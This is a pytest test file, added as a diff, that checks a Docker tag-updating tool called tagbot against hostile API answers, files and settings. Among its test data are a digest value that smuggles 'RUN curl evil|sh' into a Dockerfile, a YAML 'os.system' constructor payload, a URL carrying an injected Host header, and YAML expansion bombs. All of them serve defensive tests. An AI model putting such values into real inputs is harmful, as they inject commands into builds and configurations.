@@ -1,0 +1,430 @@
+"""Hostile input, end to end: nothing an API, a file or a setting says makes tagbot write a bad
+file, hang or crash. Each test is a reproducer from issue 10, run as a user (or an attacker)
+would: through `main()`, against loopback servers."""
+
+from __future__ import annotations
+
+import json
+import os
+import threading
+import time
+from collections.abc import Callable, Iterator
+from datetime import datetime, timezone
+from http.server import BaseHTTPRequestHandler
+from pathlib import Path
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from tagbot.cli import main
+from tagbot.config import Settings
+from tagbot.errors import BadResponse
+from tagbot.policy import decide
+from tagbot.rewrite import apply_edits, edits_for
+from tagbot.scan import compose, dockerfile
+from tagbot.scan.model import Reference
+from tagbot.sources.model import Tag, TagList, checked
+from tests.fakeapi import FakeTagsAPI, envelope, serving
+from tests.loopback import serve
+
+GOOD = "sha256:" + "a" * 64
+NEWER = "sha256:" + "b" * 64
+
+
+def tags_body(*tags: dict) -> bytes:
+    return envelope({"tags": list(tags)})
+
+
+def tag(name: str, digest: str | None = NEWER, platforms: list[str] | None = None) -> dict:
+    return {"name": name, "digest": digest, "size": 1, "platforms": platforms or ["linux/amd64", "linux/arm64"],
+            "last_updated": "2026-08-01T00:00:00Z"}
+
+
+def finishes(seconds: float, work: Callable[[], object]) -> object:
+    """`work()`'s result, or a failed test if it has not finished within `seconds`."""
+    result: list[object] = []
+    failure: list[BaseException] = []
+
+    def run() -> None:
+        try:
+            result.append(work())
+        except BaseException as e:  # handed to the test thread
+            failure.append(e)
+
+    thread = threading.Thread(target=run, daemon=True)
+    thread.start()
+    thread.join(seconds)
+    assert not thread.is_alive(), f"still running after {seconds} s"
+    if failure:
+        raise failure[0]
+    return result[0]
+
+
+@pytest.fixture
+def api(tmp_path: Path) -> Iterator[FakeTagsAPI]:
+    (tmp_path / "api").mkdir()
+    with serving(FakeTagsAPI(tmp_path / "api")) as fake:
+        yield fake
+
+
+@pytest.fixture
+def repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, api: FakeTagsAPI) -> Path:
+    root = tmp_path / "repo"
+    root.mkdir()
+    (root / "tagbot.yaml").write_text("rate_limit: 100\n")
+    monkeypatch.chdir(root)
+    monkeypatch.setenv("OANOR_API_KEY", api.key)
+    monkeypatch.setenv("TAGBOT_API_URL", api.url)
+    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
+    monkeypatch.setattr("tagbot.sources.http.BACKOFF", 0.0)
+    return root
+
+
+# --- 1. what a source answers is untrusted ------------------------------------------------------
+
+@pytest.mark.parametrize(
+    ("answered", "said"),
+    [
+        (tag("1.1.0", digest="sha256:" + "d" * 64 + " AS pwn\nRUN curl evil|sh"), "not a digest"),
+        (tag("1.1.0", digest=""), "not a digest"),
+        (tag("1.1.0", digest="md5:abc"), "not a digest"),
+        (tag("1.1.0", digest="sha256:" + "D" * 64), "not a digest"),
+        (tag("1." + "1" * 4000), "not a tag"),
+        (tag("٧.٠.٥"), "not a tag"),  # Arabic-Indic digits: a version to Python, not to docker
+        (tag("1" * 5000), "not a tag"),  # past Python's int() limit
+        (tag("1.1.0", platforms=["linux/amd64\x1b[2J"]), "not a platform"),
+    ],
+)
+def test_a_source_cannot_write_what_the_grammar_rejects(repo: Path, api: FakeTagsAPI, capsys, answered, said):
+    dockerfile = f"FROM acme/evil:1.0.0@{GOOD}\nFROM acme/fine:1.0.0\n"
+    (repo / "Dockerfile").write_text(dockerfile)
+    api.bodies["acme/evil"] = tags_body(answered, tag("1.0.0", digest=GOOD))
+    api.bodies["acme/fine"] = tags_body(tag("1.0.1"), tag("1.0.0"))
+    assert main(["update", "--no-cache"]) == 2
+    assert (repo / "Dockerfile").read_text() == dockerfile.replace("fine:1.0.0", "fine:1.0.1")  # the rest go on
+    err = capsys.readouterr().err
+    (line,) = [line for line in err.splitlines() if "acme/evil" in line]
+    assert line.startswith(f"tagbot: error: docker.io/acme/evil: tagsapi {api.url} answered") and said in line
+    assert all(line.startswith("tagbot: ") for line in err.splitlines())  # nothing injected as a line of its own
+    assert "\x1b" not in err
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        b"[" * 100_000 + b"]" * 100_000,  # deep enough to break a recursive JSON reader
+        json.dumps({"success": True, "data": {"tags": [{"name": 7}]}, "message": "", "status": "ok", "meta": {}}).encode(),
+        json.dumps({"success": True, "data": {"tags": [{"name": "1.1.0", "platforms": [1, 2]}]}}).encode(),
+    ],
+)
+def test_a_bad_answer_is_that_images_error_and_the_run_goes_on(repo: Path, api: FakeTagsAPI, capsys, body):
+    (repo / "Dockerfile").write_text("FROM acme/evil:1.0.0\nFROM acme/fine:1.0.0\n")
+    api.bodies["acme/evil"] = body
+    api.bodies["acme/fine"] = tags_body(tag("1.0.1"), tag("1.0.0"))
+    assert main(["update", "--dry-run", "--no-cache"]) == 2
+    captured = capsys.readouterr()
+    assert "acme/fine  1.0.0  1.0.1" in captured.out
+    assert "docker.io/acme/evil:" in captured.err and "Traceback" not in captured.err
+    assert main(["explain", "acme/evil:1.0.0", "--no-cache"]) == 2  # explain says so in one line too
+    assert capsys.readouterr().err.count("\n") == 1
+
+
+def test_server_messages_lose_escapes_and_control_characters(repo: Path, api: FakeTagsAPI, capsys):
+    (repo / "Dockerfile").write_text("FROM acme/loud:1.0.0\n")
+    api.bodies["acme/loud"] = envelope(None, "\x1b[31mred alert\x1b[0m\x07\rrewritten line", success=False)
+    assert main(["check", "--no-cache"]) == 2
+    err = capsys.readouterr().err
+    assert "the tags API answered: red alert  rewritten line" in err
+    assert not any(c in err for c in "\x1b\x07\r")
+
+
+# --- 2. writing through links, keeping owners -----------------------------------------------------
+
+def updatable(repo: Path, api: FakeTagsAPI, name: str = "Dockerfile") -> str:
+    api.bodies["acme/app"] = tags_body(tag("1.1.0"), tag("1.0.0"))
+    return "FROM acme/app:1.0.0\n"
+
+
+def test_a_linked_file_is_written_through_and_stays_a_link(repo: Path, api: FakeTagsAPI):
+    (repo / "docker").mkdir()
+    (repo / "docker" / "app.Dockerfile").write_text(updatable(repo, api))
+    (repo / "Dockerfile").symlink_to("docker/app.Dockerfile")
+    assert main(["update", "--no-cache"]) == 0
+    assert (repo / "Dockerfile").is_symlink()
+    assert (repo / "docker" / "app.Dockerfile").read_text() == "FROM acme/app:1.1.0\n"
+
+
+def test_a_link_to_a_file_outside_the_folder_is_refused(repo: Path, api: FakeTagsAPI, tmp_path: Path, capsys):
+    outside = tmp_path / "elsewhere.Dockerfile"
+    outside.write_text(updatable(repo, api))
+    (repo / "Dockerfile").symlink_to(outside)
+    assert main(["update", "--no-cache", "Dockerfile"]) == 2
+    assert outside.read_text() == "FROM acme/app:1.0.0\n" and (repo / "Dockerfile").is_symlink()
+    assert "Dockerfile: not written: it is a link to a file outside the folder tagbot works on" in capsys.readouterr().err
+
+
+def test_a_hard_linked_file_is_refused_not_split(repo: Path, api: FakeTagsAPI, tmp_path: Path, capsys):
+    (repo / "Dockerfile").write_text(updatable(repo, api))
+    os.link(repo / "Dockerfile", tmp_path / "other-name")
+    assert main(["update", "--no-cache"]) == 2
+    assert (repo / "Dockerfile").stat().st_ino == (tmp_path / "other-name").stat().st_ino
+    assert (tmp_path / "other-name").read_text() == "FROM acme/app:1.0.0\n"
+    assert "Dockerfile: not written: it has 2 hard links, which replacing it would split" in capsys.readouterr().err
+
+
+def test_mode_owner_and_group_are_kept(repo: Path, api: FakeTagsAPI):
+    path = repo / "Dockerfile"
+    path.write_text(updatable(repo, api))
+    path.chmod(0o640)
+    owner = (65534, 65534) if os.getuid() == 0 else (os.getuid(), os.getgid())
+    if os.getuid() == 0:
+        os.chown(path, *owner)  # as root, a file of another user must stay theirs
+    assert main(["update", "--no-cache"]) == 0
+    info = path.stat()
+    assert (path.read_text(), info.st_mode & 0o7777, (info.st_uid, info.st_gid)) == ("FROM acme/app:1.1.0\n", 0o640, owner)
+
+
+# --- 3. secrets ----------------------------------------------------------------------------------
+
+def test_a_key_that_cannot_be_a_header_is_refused_without_showing_it(repo: Path, monkeypatch, capsys):
+    (repo / "Dockerfile").write_text("FROM acme/app:1.0.0\n")
+    monkeypatch.setenv("OANOR_API_KEY", "sk-ключ-42")
+    assert main(["check", "--no-cache"]) == 2
+    err = capsys.readouterr().err
+    assert err.startswith("tagbot: error: OANOR_API_KEY holds characters an API key cannot have")
+    assert "ключ" not in err and "sk-" not in err and "Traceback" not in err
+
+
+def test_a_key_pasted_with_its_line_break_works(repo: Path, api: FakeTagsAPI, monkeypatch):
+    (repo / "Dockerfile").write_text(updatable(repo, api))
+    monkeypatch.setenv("OANOR_API_KEY", api.key + "\n")
+    assert main(["check", "--no-cache"]) == 1
+
+
+def test_credentials_in_the_api_url_are_never_stored(repo: Path, api: FakeTagsAPI, tmp_path: Path, monkeypatch):
+    (repo / "Dockerfile").write_text(updatable(repo, api))
+    monkeypatch.setenv("TAGBOT_API_URL", api.url.replace("http://", "http://user:hunter2@"))
+    assert main(["check"]) == 1
+    stored = b"".join(p.read_bytes() for p in (tmp_path / "cache").rglob("*") if p.is_file())
+    assert stored and b"hunter2" not in stored and b"user:" not in stored
+
+
+# --- 4-7. hangs and blow-ups ----------------------------------------------------------------------
+
+def test_a_named_pipe_is_never_opened(repo: Path, capsys):
+    os.mkfifo(repo / "Dockerfile")
+    (repo / "compose.yaml").write_text("services:\n  a:\n    image: redis:7\n")
+    assert finishes(10, lambda: main(["scan"])) == 2
+    captured = capsys.readouterr()
+    assert "redis" in captured.out
+    assert "tagbot: error: Dockerfile: cannot read: not a regular file" in captured.err
+    assert finishes(10, lambda: main(["scan", "Dockerfile"])) == 2  # named on the command line too
+
+
+def test_a_named_pipe_in_the_cache_is_a_miss(repo: Path, api: FakeTagsAPI, tmp_path: Path):
+    (repo / "Dockerfile").write_text(updatable(repo, api))
+    assert main(["check"]) == 1
+    (entry,) = (tmp_path / "cache").rglob("*.json")
+    entry.unlink()
+    os.mkfifo(entry)
+    assert finishes(10, lambda: main(["check"])) == 1
+
+
+def test_an_unreadable_folder_is_an_error_not_a_blind_spot(repo: Path, monkeypatch, capsys):
+    (repo / "tagbot.yaml").write_text("forbid_tags: [latest]\n")
+    (repo / "secret").mkdir()
+    (repo / "secret" / "Dockerfile").write_text("FROM redis:latest\n")
+    (repo / "secret").chmod(0)
+    if os.getuid() == 0:  # root reads any folder: make this one fail as it would for anyone else
+        real = os.scandir
+        monkeypatch.setattr("tagbot.scan.files.os.scandir",
+                            lambda p: (_ for _ in ()).throw(PermissionError(13, "Permission denied"))
+                            if str(p).endswith("secret") else real(p))
+    try:
+        assert main(["check", "--hook"]) == 2
+    finally:
+        (repo / "secret").chmod(0o755)
+    assert "tagbot: error: secret: cannot read the folder: Permission denied" in capsys.readouterr().err
+
+
+def test_merge_key_towers_and_cycles_finish(repo: Path, capsys):
+    (repo / "compose.yaml").write_text("x-a: &a {<<: [*a, *a]}\n")
+    assert finishes(10, lambda: main(["scan"])) == 0
+    tower = "x-a0: &a0 {image: redis:7}\n" + "".join(
+        f"x-a{i}: &a{i} {{<<: [*a{i - 1}, *a{i - 1}]}}\n" for i in range(1, 40)) + "services:\n  s: {<<: *a39}\n"
+    (repo / "compose.yaml").write_text(tower)
+    capsys.readouterr()
+    assert finishes(10, lambda: main(["scan", "--format", "json"])) == 0
+    assert [r["text"] for r in json.loads(capsys.readouterr().out)["references"]] == ["redis:7"]
+
+
+def test_a_doubling_arg_chain_is_a_variable_not_five_gigabytes(repo: Path, capsys):
+    lines = ["ARG A0=x"] + [f"ARG A{i}=${{A{i - 1}}}${{A{i - 1}}}" for i in range(1, 31)] + ["FROM redis:${A30}"]
+    (repo / "Dockerfile").write_text("\n".join(lines) + "\n")
+    assert finishes(10, lambda: main(["scan", "--format", "json"])) == 0
+    (reference,) = json.loads(capsys.readouterr().out)["references"]
+    assert reference["skip_reason"] == "variable"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "FROM \\\n" * 20_000 + "x\n",
+        "FROM a:1 \\\n" + "--x=1 \\\n" * 20_000 + "\n",
+        "ARG " + "A=1 \\\n" * 20_000 + "\n",
+    ],
+)
+def test_long_continued_instructions_finish(repo: Path, text: str):
+    (repo / "Dockerfile").write_text(text)
+    finishes(20, lambda: main(["scan"]))  # quadratic, these took minutes; bench/scan.py times them
+
+
+# --- 8. responses: size and deadline --------------------------------------------------------------
+
+class Misbehaving(BaseHTTPRequestHandler):
+    mode = "huge"
+
+    def do_GET(self) -> None:  # noqa: N802
+        self.send_response(200)
+        self.send_header("Content-Type", "application/json")
+        self.end_headers()
+        if self.mode == "huge":  # 50 MB, no Content-Length to refuse it by
+            chunk = b" " * (1024 * 1024)
+            for _ in range(50):
+                self.wfile.write(chunk)
+        else:  # one byte at a time, each well within any read time-out
+            for _ in range(200):
+                self.wfile.write(b" ")
+                self.wfile.flush()
+                time.sleep(0.05)
+
+    def log_message(self, format: str, *args: object) -> None:
+        pass
+
+
+@pytest.mark.parametrize(("mode", "said"), [("huge", "answered more than 20 MB; not read"),
+                                             ("trickle", "took longer than 0.5 s to answer")])
+def test_answers_are_capped_in_size_and_time(repo: Path, monkeypatch, capsys, mode, said):
+    monkeypatch.setattr("tagbot.sources.http.REQUEST_DEADLINE", 0.5)
+    handler = type("Handler", (Misbehaving,), {"mode": mode})
+    (repo / "Dockerfile").write_text("FROM acme/app:1.0.0\n")
+    with serve(handler) as url:
+        monkeypatch.setenv("TAGBOT_API_URL", url)
+        started = time.monotonic()
+        assert main(["check", "--no-cache"]) == 2
+        assert time.monotonic() - started < 30
+    assert said in capsys.readouterr().err
+
+
+# --- 10. settings ----------------------------------------------------------------------------------
+
+@pytest.mark.parametrize(
+    ("config", "said"),
+    [
+        ("rate_limit: .inf\n", "tagbot.yaml:1: rate_limit: expected a positive number up to 1000, got inf"),
+        ("cache_ttl: 99999999999999999999w\n", "tagbot.yaml:1: cache_ttl: '99999999999999999999w' is longer than ten years"),
+        ("min_age: 9999999999999999d\n", "tagbot.yaml:1: min_age: '9999999999999999d' is longer than ten years"),
+        ("min_age: !!python/object/apply:os.system ['true']\n", "tagbot.yaml:1: min_age: could not determine a constructor"),
+        ("rules: " + "[" * 5000 + "]" * 5000 + "\n", "tagbot.yaml: invalid YAML: nested too deep"),
+        ("min_age: {a: &a [x, x, x, x, x, x, x, x, x], b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a],\n"
+         "  c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b], d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c],\n"
+         "  e: [*d, *d, *d, *d, *d, *d, *d, *d, *d]}\n",
+         "tagbot.yaml:1: min_age: expands to more than 10,000 values"),
+        ("api_url: 'http://[::1'\n", "tagbot.yaml:1: api_url: expected an http:// or https:// URL"),
+        ('api_url: "http://a.example\\nHost: evil"\n', "tagbot.yaml:1: api_url: expected a URL without spaces"),
+    ],
+)
+def test_bad_settings_are_one_line_naming_the_setting(repo: Path, capsys, config: str, said: str):
+    (repo / "tagbot.yaml").write_text(config)
+    (repo / "Dockerfile").write_text("FROM acme/app:1.0.0\n")
+    assert finishes(10, lambda: main(["check", "--no-cache"])) == 2
+    err = capsys.readouterr().err
+    assert err.startswith("tagbot: error: ") and said in err, err
+    assert err.count("\n") == 1
+
+
+@pytest.mark.parametrize(
+    ("args", "env", "said"),
+    [
+        (["--api-url", "http://[::1"], {}, "--api-url: expected an http:// or https:// URL (this one does not parse)"),
+        (["--api-url", ""], {}, "--api-url: expected an http:// or https:// URL"),
+        ([], {"TAGBOT_API_URL": "http://a.example\nx"}, "TAGBOT_API_URL: expected a URL without spaces or control characters"),
+        ([], {"TAGBOT_API_URL": "ftp://a.example"}, "TAGBOT_API_URL: expected an http:// or https:// URL"),
+    ],
+)
+def test_the_api_url_from_a_flag_or_the_environment_is_checked_too(repo: Path, monkeypatch, capsys, args, env, said):
+    (repo / "Dockerfile").write_text("FROM acme/app:1.0.0\n")
+    for name, value in env.items():
+        monkeypatch.setenv(name, value)
+    assert main(["check", "--no-cache", *args]) == 2
+    assert capsys.readouterr().err == f"tagbot: error: {said}\n"
+
+
+# --- 12, 15. lost or wrong results ----------------------------------------------------------------
+
+def test_a_file_edited_during_the_lookups_is_left_alone(repo: Path, api: FakeTagsAPI, monkeypatch, capsys):
+    (repo / "Dockerfile").write_text(updatable(repo, api))
+    api.bodies["acme/other"] = tags_body(tag("1.1.0"), tag("1.0.0"))
+    import tagbot.run
+
+    real = tagbot.run.look_up_tags
+
+    def edit_then_look_up(*args, **kwargs):
+        # The tag's own characters stay; the image they belong to changes.
+        (repo / "Dockerfile").write_text("FROM acme/other:1.0.0\n")
+        return real(*args, **kwargs)
+
+    monkeypatch.setattr(tagbot.run, "look_up_tags", edit_then_look_up)
+    assert main(["update", "--no-cache"]) == 2
+    assert (repo / "Dockerfile").read_text() == "FROM acme/other:1.0.0\n"
+    assert "Dockerfile: the file changed since the scan; left as it is" in capsys.readouterr().err
+
+
+def test_no_digest_is_pinned_to_a_reference_a_variable_can_rename(repo: Path, api: FakeTagsAPI, capsys):
+    api.bodies["redis"] = tags_body(tag("8.10", digest=GOOD))
+    compose = "services:\n  cache:\n    image: ${IMG:-redis:8.10}\n  plain:\n    image: redis:8.10\n"
+    (repo / "compose.yaml").write_text(compose)
+    (repo / "tagbot.yaml").write_text("rate_limit: 100\npin_digests: true\n")
+    assert main(["update", "--no-cache"]) == 0
+    assert (repo / "compose.yaml").read_text() == compose.replace("image: redis:8.10", f"image: redis:8.10@{GOOD}")
+    out = capsys.readouterr().out
+    assert "held back: compose.yaml:3 redis: not pinned: the reference is built from variables" in out
+
+
+# --- properties: no answer makes a write tagbot's own scanner rejects -----------------------------
+
+FILES = {
+    "dockerfile": (dockerfile, f"ARG V=1.0.0\nFROM acme/app:1.0.0@{GOOD} AS a\nFROM acme/app:${{V}}-alpine\n"),
+    "compose": (compose, f"services:\n  a:\n    image: \"acme/app:1.0.0@{GOOD}\"\n  b:\n    image: acme/app:1.0.0-alpine\n"),
+}
+versions = st.builds(lambda a, b, c, s: f"{a}.{b}.{c}{s}", st.integers(0, 3), st.integers(0, 12), st.integers(0, 12),
+                     st.sampled_from(["", "-alpine", "-rc1"]))
+names = st.one_of(versions, st.text(min_size=0, max_size=12), st.text(alphabet="0123456789٧٠.-_:@ \n", max_size=12))
+digests = st.one_of(st.none(), st.just(NEWER), st.text(max_size=80),
+                    st.builds(lambda h: "sha256:" + h, st.text(alphabet="0123456789abcdefABCDEF \n", min_size=60, max_size=66)))
+platform_lists = st.lists(st.one_of(st.sampled_from(["linux/amd64", "linux/arm64", "linux/arm/v7"]), st.text(max_size=12)),
+                          max_size=3)
+answers = st.lists(st.builds(lambda n, d, p: Tag(n, d, frozenset(p), 1, datetime(2026, 1, 1, tzinfo=timezone.utc)),
+                             names, digests, platform_lists), min_size=1, max_size=8)
+
+
+@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(kind=st.sampled_from(sorted(FILES)), tags=answers, pin=st.booleans())
+def test_no_answer_makes_a_write_the_scanner_rejects(kind: str, tags: list[Tag], pin: bool):
+    scanner, text = FILES[kind]
+    try:
+        answer = checked(TagList(tuple(tags)), "a source")
+    except BadResponse:
+        return  # that image's error: nothing of it is used
+    config = Settings(pin_digests=pin, platforms="current")
+    edits = []
+    for found in scanner.extract(text):
+        assert found.image is not None
+        decision = decide(found.image, answer.tags, config, now=datetime(2026, 8, 1, tzinfo=timezone.utc))
+        if decision.update is not None:
+            edits += edits_for(Reference("f", kind, 1, 1, found), decision.update)
+    written = apply_edits(text, edits)
+    rescanned = scanner.extract(written)
+    assert len(rescanned) == len(scanner.extract(text))
+    assert all(f.image is not None and f.skip_reason is None for f in rescanned), written
